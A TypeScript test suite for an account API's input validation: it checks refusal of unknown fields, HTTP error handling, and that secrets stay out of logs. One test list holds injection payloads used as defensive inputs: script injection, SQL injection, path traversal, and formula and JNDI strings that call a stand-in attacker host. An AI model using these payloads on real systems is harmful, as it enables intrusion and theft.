/** Input checks: unknown fields are refused, text stays data, and secrets appear in one answer only. */
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { PATTERNS } from '../../src/api/inputs.ts'
import { hasRequestBody } from '../../src/api/route.ts'
import { ROUTES } from '../../src/api/routes.ts'
import type { Schema } from '../../src/api/schema.ts'
import type {
  AccountView,
  IssuedKeyView,
  IssuedLinkView,
  IssuedTokenView,
  KeyView,
  PageView,
} from '../../src/api/views.ts'
import { ROOT, read } from '../helpers/repository.ts'
import { type CallOptions, PASSWORD, type Reply, type Rig, type SignedIn, startRig } from './rig.ts'
import { createWorld, ROWS } from './tenancy-table.ts'

/** Rules with a sentence in validate.ts, and rules that do not restrict a value. */
const KEYWORDS = new Set(
  'type required additionalProperties properties items enum const minimum maximum minLength maxLength minItems maxItems uniqueItems minProperties format pattern default description'.split(
    ' ',
  ),
)

/** All nested schemas: of properties and of list entries. */
function partsOf(schema: Schema | undefined): readonly Schema[] {
  if (schema === undefined) return []
  const { properties = {}, items } = schema as { properties?: Record<string, Schema>; items?: Schema }
  return [schema, ...[...Object.values(properties), items].flatMap(partsOf)]
}

test('each input rule has a sentence', () => {
  const parts = ROUTES.flatMap(({ query, body }) => [query, body].flatMap(partsOf))
  expect(parts.flatMap(part => Object.keys(part)).filter(word => !KEYWORDS.has(word))).toEqual([])
  const patterns = new Set(parts.flatMap(part => ('pattern' in part ? String(part['pattern']) : [])))
  expect([...patterns].sort()).toEqual(Object.keys(PATTERNS).sort())
})

const codeOf = ({ body }: Reply) => (body as { error?: { code: string } }).error?.code

describe('unknown fields', () => {
  const columns = columnsOfTheStore()
  const taking = ROUTES.filter(hasRequestBody)

  test('the tables of columns and routes are not empty', () => {
    expect(columns).toEqual(
      expect.arrayContaining(['role', 'plan', 'frozen', 'posted', 'held', 'account', 'digest', 'id']),
    )
    expect(columns.length).toBeGreaterThan(40)
    expect(taking.length).toBeGreaterThan(15)
  })

  test.each(taking.map(route => [`${route.method} ${route.path}`, route] as const))(
    '%s refuses every column of the store, and every reserved name of JavaScript objects',
    async (name, route) => {
      await using world = await createWorld()
      const { resources, operator, rig } = world
      const { path = {}, body } = ROWS[name]!.send(resources.alice, world)
      const filled = route.path.replace(/\{(\w+)\}/g, (_, place: string) => path[place]!)
      const own = Object.keys((route.body?.['properties'] ?? {}) as object)
      const who = route.audience === 'operator' ? operator : world.alice
      const before = [
        rig.store.reads.listAccounts(),
        rig.store.reads.listKeys(),
        rig.store.reads.people.list(),
        rig.store.reads.people.links(),
      ]
      for (const column of [...columns, '__proto__', 'constructor', 'toString']) {
        if (own.includes(column)) continue
        const more = JSON.stringify(body ?? {}).replace(
          /\}$/,
          `${body && Object.keys(body).length > 0 ? ',' : ''}"${column}":"1"}`,
        )
        // The limit is sixty changes a minute for a person.
        rig.clock.ms += 1000
        const reply = await who.call(route.method, filled, { raw: more })
        expect(reply, column).toMatchObject({
          status: 400,
          // The JSON parser refuses `__proto__` first.
          body: { error: { code: column === '__proto__' ? 'invalid_json' : 'unknown_parameter', param: column } },
        })
      }
      expect([
        rig.store.reads.listAccounts(),
        rig.store.reads.listKeys(),
        rig.store.reads.people.list(),
        rig.store.reads.people.links(),
      ]).toEqual(before)
    },
  )

  test.each(
    ROUTES.filter(({ method }) => method === 'GET').map(route => [`${route.method} ${route.path}`, route] as const),
  )('%s refuses unknown query parameters', async (name, route) => {
    await using world = await createWorld()
    const { path = {} } = ROWS[name]!.send(world.resources.alice, world)
    const filled = route.path.replace(/\{(\w+)\}/g, (_, place: string) => path[place]!)
    const who = route.audience === 'operator' ? world.operator : world.alice
    for (const extra of ['account_id', 'account', 'role', 'sort', '__proto__', 'constructor']) {
      const reply = await who.get(`${filled}?${extra}=${world.resources.bob.account}`)
      expect(reply, extra).toMatchObject({ status: 400, body: { error: { code: 'unknown_parameter', param: extra } } })
    }
  })

  test.each<[query: string, code: string, param: string]>([
    ['limit=0', 'invalid_value', 'limit'],
    ['limit=101', 'invalid_value', 'limit'],
    ['limit=ten', 'invalid_type', 'limit'],
    ['limit=1.5', 'invalid_type', 'limit'],
    ['limit=', 'invalid_type', 'limit'],
    ['limit=1&limit=2', 'invalid_value', 'limit'],
    ['after=', 'invalid_value', 'after'],
    ['outcome=perfect', 'invalid_value', 'outcome'],
    ['Limit=1', 'unknown_parameter', 'Limit'],
    ['limit%00=1', 'unknown_parameter', '"limit\\u0000"'],
  ])('a list refuses ?%s', async (query, code, param) => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    expect(await alice.get(`/api/receipts?${query}`)).toMatchObject({ status: 400, body: { error: { code, param } } })
  })
})

describe('HTTP behaviour', () => {
  test.each<[method: string, path: string, status: number, code: string, allow?: string]>([
    ['GET', '/api', 404, 'unknown_url'],
    ['GET', '/api/', 404, 'unknown_url'],
    ['GET', '/api/nothing', 404, 'unknown_url'],
    ['GET', '/api/account/', 404, 'unknown_url'],
    ['GET', '/api//account', 404, 'unknown_url'],
    ['GET', '/api/ACCOUNT', 404, 'unknown_url'],
    ['GET', '/api/account;x=1', 404, 'unknown_url'],
    ['GET', '/api/%61ccount', 404, 'unknown_url'],
    ['GET', '/api/keys/../account', 404, 'unknown_url'],
    ['GET', '/api/{id}', 404, 'unknown_url'],
    ['GET', '/api/receipts/', 404, 'unknown_url'],
    ['GET', '/api/receipts/a%2Fb', 404, 'not_found'],
    ['GET', '/api/receipts/..', 404, 'not_found'],
    ['GET', `/api/receipts/${'x'.repeat(5000)}`, 404, 'not_found'],
    ['GET', '/api/receipts/%', 404, 'not_found'],
    ['GET', "/api/receipts/'%20OR%201=1--", 404, 'not_found'],
    ['PUT', '/api/account', 405, 'method_not_allowed', 'GET, HEAD'],
    ['DELETE', '/api/keys', 405, 'method_not_allowed', 'GET, HEAD, POST'],
    ['OPTIONS', '/api/session', 405, 'method_not_allowed', 'POST, GET, HEAD, DELETE'],
    ['GET', '/api/keys/x', 405, 'method_not_allowed', 'PATCH'],
    ['TRACE', '/api/about', 405, 'method_not_allowed', 'GET, HEAD'],
  ])('%s %s: %i %s', async (method, path, status, code, allow) => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const reply = await alice.call(method, path)
    expect(reply.status).toBe(status)
    expect(codeOf(reply)).toBe(code)
    expect(reply.headers['allow']).toBe(allow)
  })

  test.each<[what: string, options: CallOptions, status: number, code: string]>([
    ['no body', { raw: '', headers: { 'content-type': 'application/json' } }, 400, 'invalid_json'],
    ['an incomplete body', { raw: '{"name":' }, 400, 'invalid_json'],
    ['a text', { raw: '"name"' }, 400, 'invalid_type'],
    ['null', { raw: 'null' }, 400, 'invalid_type'],
    ['a duplicate key', { raw: '{"name":"a","name":"b"}' }, 400, 'invalid_json'],
    ['too large a body', { body: { name: 'x'.repeat(300_000) } }, 413, 'request_too_large'],
    ['too deeply nested JSON', { raw: `{"name":${'['.repeat(100)}${']'.repeat(100)}}` }, 400, 'request_too_complex'],
    [
      'a form',
      { raw: 'name=a', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
      415,
      'unsupported_media_type',
    ],
    [
      'JSON without a content type',
      { raw: '{"name":"a"}', headers: { 'content-type': undefined } },
      415,
      'unsupported_media_type',
    ],
  ])('POST with %s: refused', async (_, options, status, code) => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const reply = await alice.call('POST', '/api/keys', options)
    expect([reply.status, codeOf(reply)]).toEqual([status, code])
    expect(rig.store.reads.listKeys(alice.accountId)).toEqual([])
  })

  test('a GET or DELETE with a body is refused', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    for (const [method, path] of [
      ['GET', '/api/account'],
      ['DELETE', '/api/session'],
    ] as const) {
      const reply = await alice.call(method, path, { raw: '{}', headers: { 'content-length': '2' } })
      expect([reply.status, codeOf(reply)], method).toEqual([400, 'bad_request'])
    }
    expect((await alice.get('/api/session')).status).toBe(200)
  })

  test('HEAD is GET without the body', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const [head, get] = [await alice.call('HEAD', '/api/account'), await alice.get('/api/account')]
    expect(head).toMatchObject({ status: 200, text: '' })
    expect(head.headers['content-length']).toBe(get.headers['content-length'])
    expect((await rig.browser().call('HEAD', '/api/account')).status).toBe(401)
  })

  test('every answer forbids caching and has the declared content type', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    for (const path of ['/api/about', '/api/account', '/api/usage.csv', '/api/nothing', '/api/receipts/none']) {
      expect((await alice.get(path)).headers, path).toMatchObject({
        'cache-control': 'no-store',
        'x-content-type-options': 'nosniff',
        'cross-origin-resource-policy': 'same-origin',
      })
    }
  })

  test('paths outside /api are not handled', async () => {
    await using rig = await startRig()
    for (const path of ['/', '/apis', '/API/about', '/v1/models']) {
      const reply = await rig.browser().get(path)
      expect([reply.status, reply.headers['cross-origin-resource-policy']], path).toEqual([404, undefined])
    }
  })
})

describe('text that looks like code', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    'javascript:alert(1)',
    '${alert(1)}',
    '{{constructor.constructor("alert(1)")()}}',
    '</title><script>1</script>',
    "'; DROP TABLE account; --",
    "' OR '1'='1",
    '%',
    '_',
    '%00',
    '../../etc/passwd',
    '=HYPERLINK("http://evil.example")',
    '\\u003cscript\\u003e',
    '&lt;script&gt;',
    '__proto__',
    'constructor',
    '${jndi:ldap://evil.example}',
    '𝒶𝓁𝑒𝓇𝓉 🔑 ñ',
  ]

  test('comes back unchanged, as JSON, in every field that people can fill', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const operator = await rig.operator()
    for (const [index, text] of HOSTILE.entries()) {
      const { key } = (await alice.post<IssuedKeyView>('/api/keys', { name: text })).body
      expect(key.name).toBe(text)
      expect((await alice.patch<KeyView>(`/api/keys/${key.id}`, { name: `${text}!` })).body.name).toBe(`${text}!`)
      const account = await operator.post<AccountView>('/api/operator/accounts', { name: text, plan: text })
      expect(account.body).toMatchObject({ name: text, plan: text })
      const credit = { amount: '1', reference: `${text} ${index}`, note: text }
      await operator.post(`/api/operator/accounts/${alice.accountId}/credit`, credit)
      const token = await operator.post<IssuedTokenView>('/api/operator/tokens', { name: text })
      expect(token.body.token.name).toBe(text)
      const search = await operator.get<PageView<AccountView>>(
        `/api/operator/accounts?search=${encodeURIComponent(text)}`,
      )
      expect(search.body.items.map(({ name }) => name)).toContain(text)
      // Matched as plain text, not as a pattern.
      expect(
        search.body.items.every(({ name, id }) => `${name} ${id}`.toLowerCase().includes(text.toLowerCase())),
      ).toBe(true)
    }
    const names = (await alice.get<PageView<KeyView>>('/api/keys')).body.items.map(({ name }) => name)
    expect(names.sort()).toEqual(HOSTILE.map(text => `${text}!`).sort())
    const entries = await alice.get<PageView<{ note: string | null }>>('/api/entries')
    expect(entries.headers['content-type']).toBe('application/json; charset=utf-8')
    // The first credit has its own note.
    const notes = entries.body.items.flatMap(({ note }) => note ?? [])
    expect(notes.sort()).toEqual([...HOSTILE, 'credit to begin with'].sort())
  })

  test('finds nothing and breaks nothing in place of an id, a secret or a cursor', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const operator = await rig.operator()
    for (const text of HOSTILE) {
      const quoted = encodeURIComponent(text)
      const replies = [
        await alice.get(`/api/receipts/${quoted}`),
        await alice.get(`/api/receipts?key=${quoted}`),
        await alice.get(`/api/receipts?after=${quoted}`),
        await alice.get(`/api/entries?after=${quoted}`),
        await alice.post(`/api/keys/${quoted}/revoke`),
        await operator.get(`/api/operator/accounts?after=${quoted}`),
        await operator.get(`/api/operator/accounts/${quoted}`),
        await rig.browser().post('/api/link', { token: text }),
        await rig.browser().post('/api/session', { email: 'alice@example.com', password: text }),
        await rig.machine(text.replace(/[^\x20-\x7e]/g, '?')).get('/api/operator/summary'),
      ]
      rig.clock.ms += 3_600_000 / HOSTILE.length
      for (const reply of replies) {
        expect(reply.status, `${text}: ${reply.text}`).toBeLessThan(500)
        expect(reply.status === 200 ? reply.body : {}, text).not.toHaveProperty('items.0')
      }
    }
    expect(rig.log.filter(({ level }) => level === 'error')).toEqual([])
  })
})

describe('secrets', () => {
  test('appear in one answer each, and never in the log or in later reads', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const operator = await rig.operator()
    const key = (await alice.post<IssuedKeyView>('/api/keys', { name: 'first' })).body
    const rotated = (await alice.post<IssuedKeyView>(`/api/keys/${key.key.id}/rotate`, {})).body
    const link = (
      await operator.post<IssuedLinkView>('/api/operator/links', {
        kind: 'invitation',
        role: 'member',
        account_id: alice.accountId,
      })
    ).body
    const reset = (await operator.post<IssuedLinkView>(`/api/operator/people/${alice.person.id}/reset`)).body
    const token = (await operator.post<IssuedTokenView>('/api/operator/tokens', { name: 'machine' })).body
    const signedIn = rig.browser()
    await signedIn.post('/api/session', { email: 'alice@example.com', password: PASSWORD })

    const secrets = {
      key: key.token,
      rotated: rotated.token,
      link: link.url.split('#')[1]!,
      reset: reset.url.split('#')[1]!,
      token: token.secret,
      session: signedIn.cookie!,
      password: PASSWORD,
      stored: rig.store.reads.people.findByEmail('alice@example.com')!.password,
    }
    for (const secret of Object.values(secrets)) expect(secret.length).toBeGreaterThan(15)
    const later = await everythingReadable(rig, alice, operator)
    expect(later.length).toBeGreaterThan(20)
    const all = [...later, JSON.stringify(rig.log)].join('\n')
    for (const [what, secret] of Object.entries(secrets)) expect(all.includes(secret), what).toBe(false)
  })

  test('of links and sessions are not logged when they are used, accepted or refused', async () => {
    await using rig = await startRig()
    const [operator, alice] = [await rig.operator(), await rig.member('alice@example.com')]
    const machine = rig.machine(await rig.token())
    const issue = async (path: string, body?: object) =>
      (await machine.post<IssuedLinkView>(path, body)).body.url.split('#')[1]!
    const invitation = { kind: 'invitation', role: 'member' }
    const join = await issue('/api/operator/links', invitation)
    const reset = await issue(`/api/operator/people/${alice.person.id}/reset`)
    const revoked = await rig.store.people.createLink({ ...PLAIN_LINK, expiresAt: rig.clock.ms + 1000 })
    await operator.delete(`/api/operator/links/${revoked.link.id}`)
    const secrets = [join, reset, revoked.token, alice.cookie!, operator.cookie!]

    const guest = rig.browser()
    const statuses: number[] = []
    const send = async (method: string, path: string, options: CallOptions) =>
      statuses.push((await guest.call(method, path, options)).status)
    for (const token of [...secrets]) {
      for (const path of ['/api/link', '/api/join', '/api/reset']) {
        await send('POST', path, {
          body: { token: `${token.slice(0, -1)}=`, email: 'bo@example.com', password: PASSWORD },
        })
        await send('POST', path, { raw: `{"token": "${token}"`, headers: { 'content-type': 'application/json' } })
        await send('POST', path, { body: { token, password: token, [token]: token } })
        await send('POST', `${path}/${token}`, { body: {} })
        await send('POST', `${path}?token=${token}`, { body: { token } })
      }
      await send('POST', '/api/session', { body: { email: 'alice@example.com', password: token } })
      await send('GET', '/api/session', { headers: { cookie: `tollgate=${token}x` } })
      await send('GET', '/api/keys', { headers: { authorization: `Bearer ${token}` } })
    }
    expect(statuses.every(status => status >= 400)).toBe(true)
    rig.clock.ms += 3_600_000
    const used = [
      await guest.post('/api/link', { token: join }),
      await guest.post('/api/join', { token: join, email: 'bo@example.com', password: PASSWORD }),
      await guest.post('/api/password', { current: PASSWORD, new: 'a better password' }),
      await guest.post('/api/reset', { token: reset, password: 'another password' }),
      await guest.delete('/api/session'),
    ]
    expect(used.map(({ status }) => status)).toEqual([200, 201, 200, 200, 204])
    for (const { headers } of used) {
      const begun = /tollgate=([\w-]{43});/.exec(String(headers['set-cookie']))?.[1]
      if (begun) secrets.push(begun)
    }
    expect(secrets).toHaveLength(8)
    const log = JSON.stringify(rig.log)
    expect(rig.log.length).toBeGreaterThan(10)
    for (const secret of secrets) expect(log).not.toContain(secret.slice(0, -1))
    // Nothing that looks like a secret, no matter its owner.
    expect(log).not.toMatch(/(?<![\w-])[\w-]{43}(?![\w-])/)
    expect(log).not.toMatch(/tg_oper_/)
  })

  test('and rejected values are not in the log; the author of a change is', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    await rig.browser().post('/api/session', { email: 'alice@example.com', password: 'a wrong password' })
    const { key } = (await alice.post<IssuedKeyView>('/api/keys', { name: 'a name' })).body
    await alice.post(`/api/keys/${key.id}/revoke`)
    await alice.get('/api/keys')
    expect(rig.log).toEqual([
      audit('nobody', 'POST /api/session', { person: alice.person.id, refused: 'wrong_credentials' }),
      audit('alice@example.com', 'POST /api/keys', { id: key.id }, alice.person.id),
      audit('alice@example.com', 'POST /api/keys/{id}/revoke', { id: key.id }, alice.person.id),
    ])
  })

  test('a machine appears by the name of its token in the log and in the ledger', async () => {
    await using rig = await startRig()
    const alice = await rig.member('alice@example.com')
    const machine = rig.machine(await rig.token('payments'))
    rig.clock.ms += 1000
    await machine.post(`/api/operator/accounts/${alice.accountId}/credit`, { amount: '1', reference: 'p 1' })
    expect(rig.log).toEqual([
      audit(
        'token:payments',
        'POST /api/operator/accounts/{id}/credit',
        { id: alice.accountId, amount: '1.000000000', reference: 'p 1' },
        rig.store.reads.people.tokens()[0]!.id,
      ),
    ])
    const [entry] = rig.store.reads.reports.entries(alice.accountId, { limit: 1 }).items
    expect(entry).toMatchObject({ actor: 'token:payments', reference: 'p 1' })
  })
})

const PLAIN_LINK = {
  kind: 'invitation',
  role: 'member',
  accountId: null,
  plan: null,
  credit: 0n,
  email: null,
  personId: null,
  createdBy: 'test',
} as const

function audit(actor: string, route: string, about: object, by?: string) {
  const who = by === undefined ? { actor } : { actor, by }
  return { level: 'info', ...who, address: '127.0.0.1', route, about, msg: 'account api' }
}

/** The answers of every GET route, to a member and to an operator. */
async function everythingReadable(rig: Rig, member: SignedIn, operator: SignedIn): Promise<string[]> {
  const texts: string[] = []
  for (const { method, path, audience } of ROUTES) {
    if (method !== 'GET' || (path.includes('{') && !path.includes('accounts'))) continue
    const who = audience === 'operator' ? operator : member
    const reply = await who.get(path.replace('{id}', member.accountId))
    expect(reply.status, path).toBe(200)
    texts.push(JSON.stringify(reply.headers) + reply.text)
  }
  expect(rig.store.reads.listKeys(member.accountId)).toHaveLength(1)
  return texts
}

/** All column names, read from the migrations. */
function columnsOfTheStore(): string[] {
  const folder = join(ROOT, 'src/store/engine/migrations')
  const names = new Set<string>()
  for (const file of readdirSync(folder)) {
    const sql = read(`src/store/engine/migrations/${file}`)
    for (const match of sql.matchAll(/^\s+([a-z_]+)\s+(?:TEXT|INTEGER|BLOB|REAL|ANY)\b/gm)) names.add(match[1]!)
    for (const match of sql.matchAll(/ADD COLUMN ([a-z_]+)/g)) names.add(match[1]!)
  }
  return [...names]
}
